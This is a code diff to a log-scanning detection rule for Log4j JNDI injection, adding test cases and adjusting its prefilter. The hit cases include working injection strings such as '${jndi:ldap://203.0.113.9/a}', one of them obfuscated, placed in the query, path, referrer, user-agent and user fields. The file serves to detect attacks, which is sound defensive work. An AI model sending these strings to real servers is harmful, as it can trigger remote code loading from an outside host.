@@ -16,12 +16,24 @@ export default defineRule({
   refs: ['https://logging.apache.org/security.html'],
 
   where: ['query', 'path', 'referrer', 'agent', 'user', 'request'],
-  needs: ['jndi', ['${', '$%7b', '{']],
+  needs: ['jndi', ['$%7b', '{']],
   match: /\$\{\s{0,9}jndi\s{0,9}:/i,
 
   hits: [
     'GET /?x=${jndi:ldap://203.0.113.9/a}',
     { request: 'GET / HTTP/1.1', agent: '${${lower:j}ndi:ldap://203.0.113.9/a}' },
+    'GET /${jndi:ldap:/203.0.113.9/a} HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/?x=${jndi:ldap://203.0.113.9/a}',
+    },
+    { request: 'GET / HTTP/1.1', user: '${jndi:ldap:/203.0.113.9/a}' },
   ],
-  misses: ['GET /docs/jndi-tutorial', 'GET /search?q=jndi+lookup'],
+  misses: [
+    'GET /docs/jndi-tutorial',
+    'GET /search?q=jndi+lookup',
+    { message: 'upstream timed out, request: "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1"' },
+    'GET /docs?q={jndi:} HTTP/1.1',
+    'GET /docs?q=${jndi.host} HTTP/1.1',
+  ],
 })
